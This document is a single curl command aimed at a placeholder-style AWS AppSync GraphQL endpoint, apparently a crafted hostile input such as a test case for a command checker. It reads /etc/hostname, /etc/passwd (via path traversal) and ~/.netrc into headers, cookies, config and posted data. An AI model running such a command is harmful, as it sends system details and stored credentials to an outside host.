curl 'https://abc.appsync-api.us-east-1.amazonaws.com/graphql' -H @/etc/hostname -K ../../../etc/passwd --netrc-file ~/.netrc -b /etc/passwd --data-urlencode query@/etc/hostname
